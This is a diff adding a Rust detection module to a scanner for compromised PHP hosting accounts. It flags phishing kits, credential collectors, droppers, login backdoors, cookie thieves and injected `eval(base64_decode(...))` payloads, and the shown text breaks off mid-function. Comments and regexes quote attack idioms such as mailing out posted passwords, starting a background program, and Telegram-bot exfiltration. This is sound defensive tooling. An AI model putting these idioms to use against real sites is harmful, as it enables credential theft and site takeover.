@@ -1,0 +1,1163 @@
+//! What hacked hosting accounts hold besides web shells, each family by its idea:
+//! - a phishing page: a login form with a password field that shows, unescaped, the email
+//!   address the lure's link carried (`?email=`), the way kits greet their victim by name;
+//! - a phishing kit's collector whose form fields pass through variables before they are
+//!   labelled and sent away (`$p = $_POST['pass']; $m = "Pass: $p"; mail(…)`), then the
+//!   visitor sent on to a real site;
+//! - a dropper's last step: a program in the site's folder made executable and started
+//!   (`chmod('x', 0755); exec('./x > /dev/null &')`);
+//! - a spam or phishing page that checks whether its own site is on a blocklist (Safe
+//!   Browsing, Spamhaus, SURBL) so it can move on when caught;
+//! - a WordPress login without a password: the script sets the login cookie of an account
+//!   (an administrator) at the top of a file a visitor requests.
+//!
+//! One pass over the tokens plus a few byte regexes; nothing is allocated per token.
+
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::input::{CREDENTIAL_KEY, CREDENTIAL_LABEL, SECRET_KEY, input_vars, is_request, reads_input};
+use super::signs::{REDIRECT_TEXT, URL};
+use super::tokens::{Budget, ident, is_op, str_value};
+use super::{Options, Shape};
+use crate::sweep::detect::{Danger, Why};
+use crate::sweep::php::{Tok, Token};
+
+/// A password field in the page (also inside PHP strings, with escaped quotes).
+static PASSWORD_INPUT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i-u)<input\b[^>]{0,400}?\btype\s*=\s*\\?["']?password\b"#).expect("pattern compiles")
+});
+
+/// A field's value printed from PHP without escaping: `value="<?=$x?>"`,
+/// `value="<?php echo $_GET['email']; ?>"`. The captures: the request array and its key, or
+/// the variable.
+static ECHOED_VALUE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?i-u)\bvalue\s*=\s*["']?\s*<\?(?:=|php\s+echo\b|\s*echo\b|php\s+print\b)\s*@?"#,
+        r#"(?:\$_(GET|REQUEST)\s*\[\s*["']?([a-z0-9_-]{1,32})|\$([a-z_][a-z0-9_]{0,40}))\s*["']?\s*\]?\s*;?\s*\?>"#,
+    ))
+    .expect("pattern compiles")
+});
+
+/// A field that holds who the visitor is (what a lure's link carries).
+static WHO_KEY: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i-u)mail|user|login|^(?:e|em|u|id|to)$|^acc").expect("pattern compiles"));
+
+/// Blocklists of spam and phishing sites that a page asks about its own site.
+static BLOCKLIST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)safebrowsing|transparencyreport|spamhaus|surbl|uribl|phishtank|openphish")
+        .expect("pattern compiles")
+});
+
+/// A program in the current folder started from a shell command (`./name`), at the start of
+/// the command or after a separator.
+static LOCAL_PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u)(?:^|[;&|]\s*|\bnohup\s+)\./[A-Za-z0-9_][A-Za-z0-9_.-]*").expect("pattern compiles")
+});
+
+/// The command runs on in the background after the page returns.
+static BACKGROUND: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?-u)&\s*$|\bnohup\b|\bsetsid\b").expect("pattern compiles"));
+
+/// Server settings that choose what runs a file: a literal with one of these is checked as the
+/// `.htaccess` it would become.
+static HANDLER_WORDS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)\b(?:AddHandler|SetHandler|AddType|ExecCGI|ForceType)\b").expect("pattern compiles")
+});
+
+/// A file of a phishing kit's visitor filter, by its name (`antibot.php`, `anti/anti3.php`,
+/// `blocker.php`, `Bots/…`, `blacklist.php`).
+static ANTIBOT_PATH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)(?:^|[/\\._-])(?:anti-?bots?|anti\d*\.php|blocker|bots?[/\\-]|blacklist)")
+        .expect("pattern compiles")
+});
+
+/// The visitor's cookies put into an address the browser then loads (a cookie thief).
+static COOKIE_SENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?i-u)(?:location(?:\.href)?\s*=|\.src\s*=|open\s*\()\s*\\?["'][^"'<>]{1,200}\\?["']\s*\+\s*"#,
+        r#"(?:escape\s*\(\s*|encodeURIComponent\s*\(\s*)?document\.cookie"#,
+    ))
+    .expect("pattern compiles")
+});
+
+/// A path to code or server settings (what a restorer writes).
+static CODE_PATH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)(?:\.(?:php\d?|phtml|pht|phar)|(?:^|/)\.htaccess|(?:^|/)\.user\.ini)$")
+        .expect("pattern compiles")
+});
+
+/// A path to a picture, icon or other data file (where a restorer keeps its copy).
+static DATA_PATH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)\.(?:png|jpe?g|gif|ico|bmp|svg|webp|woff2?|ttf|mo|po)$").expect("pattern compiles")
+});
+
+/// PHP code in a literal that runs a decoded text (`<?php @eval(base64_decode("…"))`): the
+/// payload an injector pastes into other files.
+static HIDDEN_CODE_PAYLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i-u)<\?(?:php)?\s*@?(?:eval|assert)\s*\(\s*@?(?:base64_decode|gzinflate|gzuncompress|gzdecode|",
+        r"str_rot13|strrev|hex2bin|urldecode|rawurldecode|convert_uudecode)\s*\(",
+    ))
+    .expect("pattern compiles")
+});
+
+/// What a file manager does to the files a visitor names.
+const PATH_CHANGES: &[&[u8]] = &[b"unlink", b"rename", b"rmdir", b"chmod", b"copy", b"file_put_contents", b"touch"];
+/// How it shows the folders.
+const LISTINGS: &[&[u8]] = &[b"scandir", b"opendir", b"readdir", b"glob", b"dir"];
+
+/// How far into a long literal its PHP payload's start is looked for.
+const PAYLOAD_HEAD: usize = 256;
+
+/// Decoders that hide a text in the code.
+const DECODERS: &[&[u8]] = &[
+    b"base64_decode",
+    b"str_rot13",
+    b"strrev",
+    b"hex2bin",
+    b"gzinflate",
+    b"gzuncompress",
+    b"convert_uudecode",
+    b"chr",
+    b"pack",
+];
+
+/// Pieces of a table joined (`$t[6] . $t[7] . …`) that make a text assembled letter by letter.
+const MANY_PIECES: usize = 4;
+
+/// The most assignments of literals remembered to resolve paths.
+const MAX_LITERAL_VARS: usize = 64;
+
+/// Every word the literal checks of `facts` need (redirects, handlers, blocklists, payloads).
+static KIT_LITERAL_WORD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i-u)location|refresh|addhandler|sethandler|addtype|execcgi|forcetype|safebrowsing|",
+        r"transparencyreport|spamhaus|surbl|uribl|phishtank|openphish|eval|assert",
+    ))
+    .expect("pattern compiles")
+});
+
+/// Functions that check who logs in (a real login, a reset link, a signed request).
+const LOGIN_CHECKS: &[&[u8]] = &[
+    b"wp_check_password",
+    b"wp_authenticate",
+    b"wp_signon",
+    b"check_password_reset_key",
+    b"wp_verify_nonce",
+    b"check_admin_referer",
+    b"check_ajax_referer",
+    b"hash_equals",
+    b"password_verify",
+    b"wp_validate_auth_cookie",
+    b"is_user_logged_in",
+    b"current_user_can",
+];
+
+/// Every family of this module found in one PHP file.
+pub(super) fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
+    let mut out = Vec::new();
+    let f = facts(text, t);
+    if let Some(at) = phishing_page(text, t) {
+        out.push(Shape { why: Why::PhishingPage, danger: Danger::High, at });
+    }
+    // A collector: labelled credentials (through variables) sent away, and the visitor sent on
+    // to another site or the mail sent to a fixed address.
+    if let Some(at) = f.secret_line
+        && f.credential_lines >= 2
+        && (f.send_away || (f.writes && (f.foreign_redirect || o.small)))
+    {
+        out.push(Shape { why: Why::CredentialCollector, danger: Danger::High, at });
+    }
+    if let Some(at) = f.local_program
+        && (f.made_executable || f.background)
+    {
+        out.push(Shape { why: Why::StartsProgram, danger: Danger::High, at });
+    }
+    if let Some(at) = f.own_site_listed
+        && (f.stops || f.foreign_redirect)
+    {
+        out.push(Shape { why: Why::ChecksBlocklists, danger: Danger::High, at });
+    }
+    // A mass mailer: mail sent in a loop to addresses and with a text or headers the visitor
+    // gives (its form may be another file).
+    if let Some(at) = f.mail_from_input
+        && f.loops
+    {
+        out.push(Shape { why: Why::MailFromInput, danger: Danger::High, at });
+    }
+    // Server settings written from PHP that make invented endings or data files run as PHP or
+    // CGI (a web shell's way around a host's limits).
+    if let Some(at) = f.handler_literal
+        && f.writes
+    {
+        out.push(Shape { why: Why::PlantsServerConfig, danger: Danger::High, at });
+    }
+    // A phishing kit's page that loads the kit's visitor filter first.
+    if let Some(at) = f.antibot_include
+        && (f.antibot_includes >= 2 || f.visitor_read || f.foreign_redirect)
+    {
+        let danger = if f.antibot_includes >= 2 { Danger::High } else { Danger::Medium };
+        out.push(Shape { why: Why::PhishingBotFilter, danger, at });
+    }
+    if memchr::memmem::find(text, b"document.cookie").is_some()
+        && let Some(m) = COOKIE_SENT.find(text)
+    {
+        out.push(Shape { why: Why::StealsCookies, danger: Danger::High, at: m.start() });
+    }
+    if let Some(at) = restores_from_data(t) {
+        out.push(Shape { why: Why::RestoresFromDisguise, danger: Danger::High, at });
+    }
+    if let Some(at) = f.payload_literal
+        && f.writes
+    {
+        out.push(Shape { why: Why::InjectsHiddenCode, danger: Danger::High, at });
+    }
+    // A file manager a visitor drives: folders listed, files the request names deleted,
+    // renamed or given other rights, and files written; not the application's own (behind its
+    // permission check, or a class's method).
+    if let Some(at) = f.path_change_from_input
+        && f.lists_folders
+        && (f.path_changes.count_ones() >= 2 || f.writes || f.uploads)
+        && !crate::sweep::app::App::of(text, t).owns(at)
+    {
+        out.push(Shape { why: Why::FileManagerShell, danger: Danger::High, at });
+    }
+    if o.small
+        && let Some(at) = random_redirect(t)
+    {
+        out.push(Shape { why: Why::TrafficRedirector, danger: Danger::High, at });
+    }
+    if let Some(at) = f.hidden_recipient {
+        out.push(Shape { why: Why::HiddenMailRecipient, danger: Danger::High, at });
+    }
+    if let Some(at) = f.top_level_login
+        && !f.login_checked
+    {
+        out.push(Shape { why: Why::AdminBackdoor, danger: Danger::High, at });
+    }
+    out
+}
+
+#[derive(Default)]
+struct Facts {
+    /// Labelled credentials in literals (`"Pass: " . $p`, `"Pass: $p"`), and the first secret.
+    credential_lines: u8,
+    secret_line: Option<usize>,
+    /// Mail to a fixed address (not the visitor's), a chat bot's or another site's address
+    /// fetched.
+    send_away: bool,
+    /// A file written.
+    writes: bool,
+    /// `Location: http…` or a script redirect to an absolute address.
+    foreign_redirect: bool,
+    local_program: Option<usize>,
+    background: bool,
+    made_executable: bool,
+    own_site_listed: Option<usize>,
+    stops: bool,
+    top_level_login: Option<usize>,
+    login_checked: bool,
+    /// `mail()` to an address from the request with its text or headers from the request too.
+    mail_from_input: Option<usize>,
+    loops: bool,
+    /// A literal that, as an `.htaccess`, makes files run that should not.
+    handler_literal: Option<usize>,
+    /// Includes of the kit's visitor filter files (`ANTIBOT_PATH`), and the first.
+    antibot_includes: u8,
+    antibot_include: Option<usize>,
+    /// The visitor's address or browser read.
+    visitor_read: bool,
+    /// `mail()` to an address that is decoded or assembled in the code.
+    hidden_recipient: Option<usize>,
+    /// A literal holding PHP code that runs a decoded text.
+    payload_literal: Option<usize>,
+    /// Files the request names deleted, renamed or changed (`PATH_CHANGES` bits), and the first.
+    path_changes: u8,
+    path_change_from_input: Option<usize>,
+    lists_folders: bool,
+    uploads: bool,
+}
+
+/// The most variables holding credentials that are followed.
+const MAX_CREDENTIAL_VARS: usize = 32;
+
+fn facts<'a>(text: &[u8], t: &[Token<'a>]) -> Facts {
+    let mut f = Facts::default();
+    let creds = credential_vars(t);
+    // Found when first needed (most files call none of the functions that ask).
+    let mut inputs: Option<Vec<&'a [u8]>> = None;
+    let mut hidden: Option<Vec<&'a [u8]>> = None;
+    let budget = Budget::for_tokens(t.len());
+    // Brace depth inside functions and classes: a login set there is the application's.
+    let mut bodies: Vec<bool> = Vec::new();
+    let mut pending_body = false;
+    for (i, tok) in t.iter().enumerate() {
+        match &tok.tok {
+            Tok::Op(b"{") => {
+                bodies.push(pending_body);
+                pending_body = false;
+            }
+            Tok::Op(b"}") => {
+                bodies.pop();
+            }
+            Tok::Op(b";") => pending_body = false,
+            Tok::Ident(n) => {
+                let low = |w: &[u8]| n.eq_ignore_ascii_case(w);
+                if low(b"function") || low(b"class") || low(b"trait") || low(b"interface") || low(b"fn") {
+                    pending_body = true;
+                    continue;
+                }
+                if low(b"die") || low(b"exit") {
+                    f.stops = true;
+                }
+                f.loops |= low(b"for") || low(b"foreach") || low(b"while");
+                if low(b"include") || low(b"include_once") || low(b"require") || low(b"require_once") {
+                    // The literal parts of the path (`__DIR__ . '/anti/a1.php'`).
+                    let path = t[i + 1..t.len().min(i + 8)]
+                        .iter()
+                        .take_while(|x| !is_op(Some(x), b";") && !matches!(x.tok, Tok::Close))
+                        .filter_map(str_value);
+                    if path.into_iter().any(|p| p.len() <= 256 && ANTIBOT_PATH.is_match(p)) {
+                        f.antibot_includes = f.antibot_includes.saturating_add(1);
+                        f.antibot_include.get_or_insert(tok.at);
+                    }
+                    continue;
+                }
+                let method = i > 0 && matches!(t[i - 1].tok, Tok::Op(b"->" | b"::" | b"?->"));
+                if method || !is_op(t.get(i + 1), b"(") {
+                    continue;
+                }
+                if let Some(bit) = PATH_CHANGES.iter().position(|c| low(c)) {
+                    // At the top of the script a visitor requests (a library's functions are run
+                    // by the application that loads them).
+                    let top = !bodies.contains(&true);
+                    let from_input = |a: &[Token<'_>], inputs: &mut Option<Vec<&'a [u8]>>| {
+                        reads_input(a, inputs.get_or_insert_with(|| input_vars(t)))
+                    };
+                    if top && budget.args(t, i + 1).first().is_some_and(|a| from_input(a, &mut inputs)) {
+                        f.path_changes |= 1 << bit;
+                        f.path_change_from_input.get_or_insert(tok.at);
+                    }
+                } else if LISTINGS.iter().any(|c| low(c)) {
+                    f.lists_folders = true;
+                } else if low(b"move_uploaded_file") {
+                    f.uploads = true;
+                }
+                if LOGIN_CHECKS.iter().any(|c| low(c)) {
+                    f.login_checked = true;
+                } else if low(b"wp_set_auth_cookie") && f.top_level_login.is_none() && !bodies.contains(&true) {
+                    f.top_level_login = Some(tok.at);
+                } else if low(b"mail") {
+                    let args = budget.args(t, i + 1);
+                    let to_visitor = args.first().is_some_and(|a| reads(a, &creds) || reads_request(a));
+                    f.send_away |= !to_visitor;
+                    if f.hidden_recipient.is_none()
+                        && args.first().is_some_and(|a| hides_text(a, hidden.get_or_insert_with(|| hidden_vars(t))))
+                    {
+                        f.hidden_recipient = Some(tok.at);
+                    }
+                    let inputs = inputs.get_or_insert_with(|| input_vars(t));
+                    let to_input = args.first().is_some_and(|a| reads_input(a, inputs));
+                    if to_input && f.mail_from_input.is_none() && args.iter().skip(1).any(|a| reads_input(a, inputs)) {
+                        f.mail_from_input = Some(tok.at);
+                    }
+                } else if low(b"fwrite") || low(b"fputs") || low(b"file_put_contents") {
+                    f.writes = true;
+                } else if low(b"curl_exec") {
+                    f.send_away = true;
+                } else if low(b"chmod") {
+                    let args = budget.args(t, i + 1);
+                    f.made_executable |= args.get(1).and_then(|a| a.first()).is_some_and(executable_mode);
+                } else if low(b"header") {
+                    let first =
+                        budget.args(t, i + 1).first().and_then(|a| a.first()).and_then(str_value).map(is_foreign);
+                    f.foreign_redirect |= first.unwrap_or(false);
+                }
+            }
+            Tok::Var(b"_SERVER") if !f.visitor_read => {
+                let key = t.get(i + 2).and_then(str_value);
+                f.visitor_read = key.is_some_and(|k| k == b"REMOTE_ADDR" || k == b"HTTP_USER_AGENT");
+            }
+            Tok::Str { value, vars, .. } | Tok::Backtick { value, vars } => {
+                if f.payload_literal.is_none()
+                    && value.len() > 4096
+                    && HIDDEN_CODE_PAYLOAD.is_match(&value[..value.len().min(PAYLOAD_HEAD)])
+                {
+                    f.payload_literal = Some(tok.at);
+                }
+                if value.len() > 4096 {
+                    continue;
+                }
+                // The literal as written: interpolated names are kept there, with the labels before them.
+                let raw = &text[tok.at.min(text.len())..t.get(i + 1).map_or(text.len(), |n| n.at).min(text.len())];
+                let (lines, secret) = labelled(t, i, value, raw, vars, &creds);
+                f.credential_lines = f.credential_lines.saturating_add(lines);
+                if secret && f.secret_line.is_none() {
+                    f.secret_line = Some(tok.at);
+                }
+                // The checks below need one of these words: most literals have none.
+                let worded = value.len() >= 4 && KIT_LITERAL_WORD.is_match(value);
+                if worded
+                    && !f.foreign_redirect
+                    && REDIRECT_TEXT.is_match(value)
+                    && memchr::memmem::find(value, b"http").is_some()
+                {
+                    f.foreign_redirect = true;
+                }
+                if value.len() >= 4 && value[..4].eq_ignore_ascii_case(b"http") && value.len() <= 512 {
+                    // An address of a chat bot's API: where kits send what they collect.
+                    f.send_away |= memchr::memmem::find(value, b"api.telegram.org").is_some();
+                }
+                if f.local_program.is_none()
+                    && memchr::memmem::find(value, b"./").is_some()
+                    && LOCAL_PROGRAM.is_match(value)
+                    && runs_shell(t, i)
+                {
+                    f.local_program = Some(tok.at);
+                    f.background = BACKGROUND.is_match(value.trim_ascii_end());
+                    f.made_executable |= memchr::memmem::find(value, b"chmod +x").is_some();
+                }
+                if worded
+                    && f.payload_literal.is_none()
+                    && memchr::memchr(b'<', value).is_some()
+                    && HIDDEN_CODE_PAYLOAD.is_match(value)
+                {
+                    f.payload_literal = Some(tok.at);
+                }
+                if worded && f.handler_literal.is_none() && HANDLER_WORDS.is_match(value) && runs_files(value) {
+                    f.handler_literal = Some(tok.at);
+                }
+                if worded && f.own_site_listed.is_none() && BLOCKLIST.is_match(value) && names_own_site(t, i) {
+                    f.own_site_listed = Some(tok.at);
+                }
+            }
+            _ => {}
+        }
+    }
+    f
+}
+
+/// Whether an expression decodes a text or assembles it from a table's pieces, or reads a
+/// variable assigned so (`hidden`).
+fn hides_text(e: &[Token<'_>], hidden: &[&[u8]]) -> bool {
+    let mut pieces = 0;
+    for (k, x) in e.iter().enumerate() {
+        match x.tok {
+            Tok::Ident(n) if is_op(e.get(k + 1), b"(") && DECODERS.iter().any(|d| n.eq_ignore_ascii_case(d)) => {
+                return true;
+            }
+            Tok::Var(v) if hidden.contains(&v) => return true,
+            Tok::Op(b"]") if is_op(e.get(k + 1), b".") => pieces += 1,
+            _ => {}
+        }
+    }
+    pieces >= MANY_PIECES
+}
+
+/// Variables assigned a decoded or assembled text (`$to = base64_decode('…')`).
+fn hidden_vars<'a>(t: &[Token<'a>]) -> Vec<&'a [u8]> {
+    let mut out: Vec<&'a [u8]> = Vec::new();
+    for (i, x) in t.iter().enumerate() {
+        let Tok::Var(v) = x.tok else { continue };
+        if !is_op(t.get(i + 1), b"=") || out.len() >= MAX_LITERAL_VARS || out.contains(&v) {
+            continue;
+        }
+        let end = t[i + 2..].iter().take(128).position(|y| is_op(Some(y), b";") || matches!(y.tok, Tok::Close));
+        let rhs = &t[i + 2..i + 2 + end.unwrap_or(0)];
+        if hides_text(rhs, &out) {
+            out.push(v);
+        }
+    }
+    out
+}
+
+/// A list of other sites' addresses (`array('https://a.example/', …)`), one picked at random
+/// (`$l[array_rand($l)]`, `$l[mt_rand(…)]`), and the visitor sent there (`Location:`).
+fn random_redirect(t: &[Token<'_>]) -> Option<usize> {
+    let mut urls = false;
+    let mut picked = false;
+    let mut redirect = None;
+    for (i, x) in t.iter().enumerate() {
+        match &x.tok {
+            Tok::Str { value, .. } => {
+                let listed = is_op(t.get(i + 1), b",") || is_op(t.get(i + 1), b")") || is_op(t.get(i + 1), b"]");
+                urls |= listed && URL.is_match(value);
+                if value.len() >= 9 && value[..9].eq_ignore_ascii_case(b"location:") {
+                    redirect.get_or_insert(x.at);
+                }
+            }
+            Tok::Ident(n) if is_op(t.get(i + 1), b"(") && i > 0 && is_op(t.get(i - 1), b"[") => {
+                picked |=
+                    [&b"array_rand"[..], b"mt_rand", b"rand", b"random_int"].iter().any(|r| n.eq_ignore_ascii_case(r));
+            }
+            _ => {}
+        }
+    }
+    if urls && picked { redirect } else { None }
+}
+
+/// `file_put_contents('x.php', file_get_contents('a.png'))`, `copy('a.png', '.htaccess')`:
+/// code kept under a picture's name put back in place (a restorer that undoes a cleanup).
+fn restores_from_data(t: &[Token<'_>]) -> Option<usize> {
+    let mut literals: Vec<(&[u8], &[u8])> = Vec::new();
+    let budget = Budget::for_tokens(t.len());
+    let path = |arg: &[Token<'_>], literals: &[(&[u8], &[u8])]| -> Option<Vec<u8>> {
+        match arg {
+            [x] => match &x.tok {
+                Tok::Str { value, .. } => Some(value.clone()),
+                Tok::Var(v) => literals.iter().find(|(n, _)| n == v).map(|(_, l)| l.to_vec()),
+                _ => None,
+            },
+            _ => None,
+        }
+    };
+    for (i, tok) in t.iter().enumerate() {
+        match &tok.tok {
+            Tok::Var(v)
+                if is_op(t.get(i + 1), b"=") && is_op(t.get(i + 3), b";") && literals.len() < MAX_LITERAL_VARS =>
+            {
+                if let Some(Token { tok: Tok::Str { value, .. }, .. }) = t.get(i + 2)
+                    && value.len() <= 256
+                {
+                    literals.push((v, value));
+                }
+            }
+            Tok::Ident(n)
+                if is_op(t.get(i + 1), b"(") && !(i > 0 && matches!(t[i - 1].tok, Tok::Op(b"->" | b"::"))) =>
+            {
+                let put = n.eq_ignore_ascii_case(b"file_put_contents");
+                if !put && !n.eq_ignore_ascii_case(b"copy") {
+                    continue;
+                }
+                let args = budget.args(t, i + 1);
+                let (to, from) = if put {
+                    let Some([get, open, src @ .., close]) = args.get(1).map(|a| strip_at(a)) else { continue };
+                    let reads = ident(get).is_some_and(|g| g.eq_ignore_ascii_case(b"file_get_contents"));
+                    if !reads || !is_op(Some(open), b"(") || !is_op(Some(close), b")") {
+                        continue;
+                    }
+                    (args.first().map(|a| strip_at(a)), Some(src))
+                } else {
+                    (args.get(1).map(|a| strip_at(a)), args.first().map(|a| strip_at(a)))
+                };
+                let (Some(to), Some(from)) =
+                    (to.and_then(|a| path(a, &literals)), from.and_then(|a| path(a, &literals)))
+                else {
+                    continue;
+                };
+                if CODE_PATH.is_match(&to) && DATA_PATH.is_match(&from) {
+                    return Some(tok.at);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// The argument without a leading `@`.
+fn strip_at<'s, 'a>(arg: &'s [Token<'a>]) -> &'s [Token<'a>] {
+    match arg {
+        [first, rest @ ..] if is_op(Some(first), b"@") => rest,
+        _ => arg,
+    }
+}
+
+/// Whether the text, as an `.htaccess`, makes data files or invented endings run as PHP or CGI.
+fn runs_files(value: &[u8]) -> bool {
+    crate::sweep::conf::check(".htaccess", value, &[])
+        .iter()
+        .any(|h| matches!(h.why, Why::HandlerOnData | Why::SsiExec) && h.danger >= Danger::High)
+}
+
+/// `0755`, `0744`, `0777`, `0700`, `0111`-like modes: the owner may run the file.
+fn executable_mode(x: &Token<'_>) -> bool {
+    let Tok::Num(n) = x.tok else { return false };
+    let Some(digits) = n.strip_prefix(b"0").filter(|d| d.len() == 3 && d.iter().all(|c| (b'0'..=b'7').contains(c)))
+    else {
+        return false;
+    };
+    (digits[0] - b'0') & 1 == 1
+}
+
+/// A `Location:` header to an address on the web (not a page of the site itself).
+fn is_foreign(v: &[u8]) -> bool {
+    let v = v.trim_ascii_start();
+    v.len() > 9 && v[..9].eq_ignore_ascii_case(b"location:") && URL.is_match(&v[9..])
+}
+
+/// Whether the literal at `i` is (part of) the first argument of a shell call or a backtick.
+fn runs_shell(t: &[Token<'_>], i: usize) -> bool {
+    if matches!(t[i].tok, Tok::Backtick { .. }) {
+        return true;
+    }
+    // Back over the argument's tokens to its call.
+    for k in (i.saturating_sub(12)..i).rev() {
+        match &t[k].tok {
+            Tok::Op(b"(") => {
+                return k > 0
+                    && ident(&t[k - 1]).is_some_and(|n| {
+                        [&b"exec"[..], b"shell_exec", b"system", b"passthru", b"popen", b"proc_open"]
+                            .iter()
+                            .any(|s| n.eq_ignore_ascii_case(s))
+                    });
+            }
+            Tok::Op(b";" | b")" | b"{" | b"}") | Tok::Close => return false,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Whether the tokens around the literal at `i` (the same expression) read the site's own
+/// host name.
+fn names_own_site(t: &[Token<'_>], i: usize) -> bool {
+    let from = i.saturating_sub(8);
+    let to = t.len().min(i + 9);
+    t[from..to].iter().enumerate().any(|(k, x)| match &x.tok {
+        Tok::Var(b"_SERVER") => t[from..to].get(k + 2).and_then(str_value).is_some_and(is_host_key),
+        Tok::Str { vars, value, .. } => {
+            vars.contains(&&b"_SERVER"[..]) && (has(value, b"HTTP_HOST") || has(value, b"SERVER_NAME"))
+        }
+        _ => false,
+    })
+}
+
+fn is_host_key(k: &[u8]) -> bool {
+    k == b"HTTP_HOST" || k == b"SERVER_NAME"
+}
+
+fn has(v: &[u8], w: &[u8]) -> bool {
+    memchr::memmem::find(v, w).is_some()
+}
+
+/// A variable that holds a credential field of the request, and whether it is a secret.
+struct CredVar<'a> {
+    name: &'a [u8],
+    secret: bool,
+}
+
+/// Variables assigned a credential field of the request (`$p = trim($_POST['passwd'])`), or
+/// a request field under a credential's name (`$password = $_POST['2']`).
+fn credential_vars<'a>(t: &[Token<'a>]) -> Vec<CredVar<'a>> {
+    let mut out: Vec<CredVar<'a>> = Vec::new();
+    for (i, tok) in t.iter().enumerate() {
+        let Tok::Var(v) = tok.tok else { continue };
+        if !is_op(t.get(i + 1), b"=") || out.len() >= MAX_CREDENTIAL_VARS || is_request(v) {
+            continue;
+        }
+        // The right side, up to the end of the statement: the first request field read.
+        let rhs = t[i + 2..].iter().take(16).take_while(|x| !is_op(Some(x), b";") && !matches!(x.tok, Tok::Close));
+        let mut key = None;
+        for (k, x) in (i + 2..).zip(rhs) {
+            if let Tok::Var(r) = x.tok
+                && matches!(r, b"_POST" | b"_GET" | b"_REQUEST")
+                && is_op(t.get(k + 1), b"[")
+            {
+                key = t.get(k + 2).and_then(str_value).or(Some(b""));
+                break;
+            }
+        }
+        let Some(key) = key else { continue };
+        let by_key = !key.is_empty() && CREDENTIAL_KEY.is_match(key);
+        if by_key || CREDENTIAL_KEY.is_match(v) {
+            let secret = if by_key { SECRET_KEY.is_match(key) } else { SECRET_KEY.is_match(v) };
+            if !out.iter().any(|c| c.name == v) {
+                out.push(CredVar { name: v, secret });
+            }
+        }
+    }
+    out
+}
+
+fn find<'c, 'a>(creds: &'c [CredVar<'a>], v: &[u8]) -> Option<&'c CredVar<'a>> {
+    creds.iter().find(|c| c.name == v)
+}
+
+/// Whether an argument reads one of the credential variables.
+fn reads(arg: &[Token<'_>], creds: &[CredVar<'_>]) -> bool {
+    arg.iter().any(|x| match &x.tok {
+        Tok::Var(v) => find(creds, v).is_some(),
+        Tok::Str { vars, .. } => vars.iter().any(|v| find(creds, v).is_some()),
+        _ => false,
+    })
+}
+
+fn reads_request(arg: &[Token<'_>]) -> bool {
+    arg.iter().any(|x| match &x.tok {
+        Tok::Var(v) => is_request(v),
+        Tok::Str { vars, .. } => vars.iter().any(|v| is_request(v)),
+        _ => false,
+    })
+}
+
+/// Credential variables pasted after a label in the literal at `i`: `"Pass: " . $p` or
+/// `"User: $u\nPass: $p"`. How many, and whether one is a secret.
+fn labelled(t: &[Token<'_>], i: usize, value: &[u8], raw: &[u8], vars: &[&[u8]], creds: &[CredVar<'_>]) -> (u8, bool) {
+    if creds.is_empty() || raw.len() > 400 {
+        return (0, false);
+    }
+    let (mut lines, mut secret) = (0u8, false);
+    // Interpolated: `$name` after a label.
+    for v in vars {
+        let Some(c) = find(creds, v) else { continue };
+        let mut from = 0;
+        while let Some(p) = memchr::memchr(b'$', &raw[from..]).map(|p| p + from) {
+            let name = &raw[p + 1..];
+            let name = name.strip_prefix(b"{").unwrap_or(name);
+            let follows = name.starts_with(c.name)
+                && name.get(c.name.len()).is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_'));
+            if follows {
+                let line_start = raw[..p].iter().rposition(|b| matches!(b, b'\n' | b'\\' | b'$')).map_or(0, |s| s + 1);
+                // `{$p}`: the brace is not part of the label.
+                let end = if raw[..p].ends_with(b"{") { p - 1 } else { p };
+                if CREDENTIAL_LABEL.is_match(&raw[line_start..end.max(line_start)]) {
+                    lines = lines.saturating_add(1);
+                    secret |= c.secret;
+                }
+                break;
+            }
+            from = p + 1;
+        }
+    }
+    // Concatenated: `"Pass: " . $p`.
+    if let (true, Some(Token { tok: Tok::Var(v), .. })) = (is_op(t.get(i + 1), b"."), t.get(i + 2))
+        && let Some(c) = find(creds, v)
+        && CREDENTIAL_LABEL.is_match(value)
+    {
+        lines = lines.saturating_add(1);
+        secret |= c.secret;
+    }
+    (lines, secret)
+}
+
+/// A login form with a password field that shows the visitor's address from the link
+/// unescaped (directly or through a variable assigned from `$_GET`/`$_REQUEST`).
+fn phishing_page(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
+    // The word first (most files have none), then the field.
+    memchr::memmem::find(text, b"assword").or_else(|| memchr::memmem::find(text, b"ASSWORD"))?;
+    let password = PASSWORD_INPUT.find(text)?;
+    for c in ECHOED_VALUE.captures_iter(text).take(64) {
+        let at = c.get(0).map_or(password.start(), |m| m.start());
+        if let Some(key) = c.get(2) {
+            if WHO_KEY.is_match(key.as_bytes()) {
+                return Some(at);
+            }
+        } else if let Some(var) = c.get(3)
+            && from_link(t, var.as_bytes())
+        {
+            return Some(at);
+        }
+    }
+    None
+}
+
+/// Whether the variable is assigned who the visitor is from the link (`$_GET`, `$_REQUEST`;
+/// the field or the variable named like an address or a user), also decoded
+/// (`base64_decode($_GET['e'])`), and never escaped.
+fn from_link(t: &[Token<'_>], var: &[u8]) -> bool {
+    let mut from_get = false;
+    let mut who = WHO_KEY.is_match(var);
+    for (i, x) in t.iter().enumerate() {
+        let Tok::Var(v) = x.tok else { continue };
+        if v != var || !is_op(t.get(i + 1), b"=") {
+            continue;
+        }
